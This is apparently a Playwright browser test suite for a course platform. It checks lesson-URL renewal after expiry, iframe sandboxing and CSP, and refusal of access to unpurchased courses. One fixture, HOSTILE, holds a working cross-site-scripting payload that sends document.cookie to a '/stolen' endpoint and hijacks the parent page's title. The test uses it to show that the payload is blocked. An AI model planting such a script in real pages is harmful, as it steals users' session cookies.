"""A buyer's lessons in a real browser, beyond the journey (test_student_journeys.py): URLs that expired under the
open page are renewed without a reload; a lesson's HTML runs nothing; another course's buyer gets no URL.

Everything is real and on 127.0.0.1: the sandbox, the app under `chalice local`, the local S3 endpoint (which
checks every signature and expiry, its bucket seeded from content/), the SPA built by Vite, Debian's Chromium.
Lesson URLs live LESSON_URL_LIFETIME_SECONDS here, so that one expires while a test watches.
"""

from __future__ import annotations

import json
from pathlib import Path

import requests
from playwright.sync_api import Request, Response, Route, expect

from tests.browser.conftest import CspViolations
from tests.browser.lessons import CONTENT, COURSE_PATH, FILE, TEXT, VIDEO, CourseAnswers, s3_error, wait_until
from tests.browser.stack import Stack
from tests.browser.student import STEP_TIMEOUT_MS, Student
from tests.browser.test_student_journeys import HANDBOOK, buy, new_buyer_with_password
from tests.integration.harness import new_sale_id


def signed_in_buyer(stack: Stack, student: Student, buyer: str) -> None:
    new_buyer_with_password(stack, student, buyer, new_sale_id())
    student.sign_in(buyer, "correct horse battery staple")
    student.expect_courses([HANDBOOK])


# The tab as the browser reports it while the student is elsewhere (or the laptop sleeps): hidden. The page re-reads
# the course when it becomes visible again and every 30 s while visible; hidden, it re-reads nothing, so the URLs it
# holds expire under it, which is what a lesson then has to cope with.
HIDE_THE_TAB = """() => {
    Object.defineProperty(document, "visibilityState", { configurable: true, get: () => "hidden" });
}"""


def test_urls_that_expired_under_the_open_page_are_renewed_by_reading_the_course_again_without_a_reload(
    stack: Stack, student: Student
) -> None:
    answers = CourseAnswers(student)
    refused: list[str] = []  # the lesson URLs the page tried and S3 did not serve, in order

    # A fetch() sees S3's 403; a <video> never does: Chromium blocks the XML error of a no-cors media request
    # (ERR_BLOCKED_BY_ORB), so the request fails and the element reports a media error. (A download's request is
    # "aborted" once the browser saves it instead: that is no refusal.)
    def answered(response: Response) -> None:
        if response.url.startswith(stack.content.endpoint_url) and response.status == 403:
            refused.append(response.url)

    def failed(request: Request) -> None:
        if request.url.startswith(stack.content.endpoint_url) and request.failure != "net::ERR_ABORTED":
            refused.append(request.url)

    student.page.on("response", answered)
    student.page.on("requestfailed", failed)
    signed_in_buyer(stack, student, "browser-lessons-expire@example.com")
    student.open_course(HANDBOOK)
    expect(student.text_lesson(TEXT).get_by_role("heading", name=TEXT)).to_be_visible(timeout=STEP_TIMEOUT_MS)
    student.page.evaluate("window.stillTheSamePage = true")
    student.page.evaluate(HIDE_THE_TAB)

    # A long video's next range request after its URL expired: S3 refuses it, the lesson renews, playing resumes.
    wait_until(answers.latest("cold-starts")["expires_at"], margin=1.5)
    student.open_lesson(VIDEO)
    student.play_video()
    assert names(refused) == ["03-cold-starts.webm"]

    # A text lesson opened after its URL expired: the fetch is refused, the lesson renews and shows.
    wait_until(answers.latest("what-serverless-means")["expires_at"], margin=1.5)
    student.open_lesson(FILE)
    student.open_lesson(TEXT)
    expect(student.text_lesson(TEXT).get_by_role("heading", name=TEXT)).to_be_visible(timeout=STEP_TIMEOUT_MS)
    assert names(refused) == ["03-cold-starts.webm", "01-what-serverless-means.html"]

    # A download whose link expires within 5 s: the click renews it first, and the browser saves the file.
    wait_until(answers.latest("deployment-checklist")["expires_at"], margin=-3.5)
    reads = len(answers.lessons)
    student.open_lesson(FILE)
    download = student.download_lesson(FILE)

    assert Path(download.path()).read_bytes() == (CONTENT / "02-deployment-checklist.pdf").read_bytes()
    assert len(answers.lessons) == reads + 1, "the click read the course once for a fresh link"
    assert names(refused) == ["03-cold-starts.webm", "01-what-serverless-means.html"], "the old link was not used"
    assert student.page.evaluate("window.stillTheSamePage") is True, "renewed without a reload"
    for url in refused:  # what S3 said to each, asked again
        again = requests.get(url, timeout=10)
        assert (again.status_code, s3_error(again)) == (403, ("AccessDenied", "Request has expired"))


def names(urls: list[str]) -> list[str]:
    return [url.split("?", 1)[0].rsplit("/", 1)[-1] for url in urls]


HOSTILE = """<!doctype html><html><head><title>lesson</title></head><body>
<h1>A lesson with a script in it</h1>
<p><a href="https://example.com/further-reading">Further reading</a></p>
<script>
  fetch("{spa}/stolen?" + encodeURIComponent(document.cookie + String(window.parent.document.title)));
  window.parent.document.title = "pwned";
</script>
<img src="data:," onerror="fetch('{spa}/stolen-by-onerror')">
</body></html>"""


def test_a_text_lesson_is_shown_but_never_run_and_cannot_reach_the_page(
    stack: Stack, student: Student, csp_refusals: CspViolations
) -> None:
    stolen: list[str] = []

    def lesson_with_a_script(route: Route) -> None:
        headers = {"Content-Type": "text/html; charset=utf-8", "Access-Control-Allow-Origin": stack.spa_url}
        route.fulfill(status=200, headers=headers, body=HOSTILE.format(spa=stack.spa_url))

    def record(request: Request) -> None:
        if "/stolen" in request.url:
            stolen.append(request.url)

    # The creator's bucket serves the lesson: here it holds a script, answered in place of the sample's HTML.
    student.page.route(f"{stack.content.endpoint_url}/**/01-what-serverless-means.html*", lesson_with_a_script)
    student.page.on("request", record)
    signed_in_buyer(stack, student, "browser-lessons-script@example.com")
    student.open_course(HANDBOOK)

    frame = student.page.get_by_title(TEXT, exact=True)
    expect(frame.content_frame.get_by_role("heading", name="A lesson with a script in it")).to_be_visible(
        timeout=STEP_TIMEOUT_MS
    )
    student.page.wait_for_timeout(1_000)  # time for a script to have run, had one been allowed to

    assert stolen == []
    assert student.page.title() == "My courses"
    sandbox = frame.get_attribute("sandbox") or ""
    assert "allow-scripts" not in sandbox
    assert "allow-same-origin" not in sandbox
    link = frame.content_frame.get_by_role("link", name="Further reading")
    assert link.evaluate("a => a.target || a.ownerDocument.querySelector('base').target") == "_blank"
    assert json.loads(json.dumps(sandbox.split())) == ["allow-popups", "allow-popups-to-escape-sandbox"]
    # The frame's document inherits the SPA's CSP (the stack's, tests/browser/hosting.py): it refuses the lesson's
    # scripts too, and says so. Nothing but a script was refused.
    refused = csp_refusals.take()
    assert refused
    assert all("script-src 'self'" in message for message in refused), refused


def test_another_buyers_token_opens_no_lesson_of_a_course_it_did_not_buy(stack: Stack) -> None:
    buyer = "browser-lessons-other@example.com"
    buy(stack, buyer, new_sale_id(), product_id="8RhOl0SwGgLXJ0CXvRMUrQ==", permalink="pro", product_permalink="pro")
    token = stack.sandbox.user_token(buyer)

    course = stack.service.get(COURSE_PATH, token)
    lesson = requests.get(
        f"{stack.service.base_url}{COURSE_PATH}/lessons/cold-starts",
        headers={"Authorization": f"Bearer {token}"},
        allow_redirects=False,
        timeout=30,
    )

    assert (course.status_code, course.json()["error"]) == (403, "insufficient_scope")
    assert (lesson.status_code, "Location" in lesson.headers) == (403, False)
    assert "X-Amz-Signature" not in course.text + lesson.text
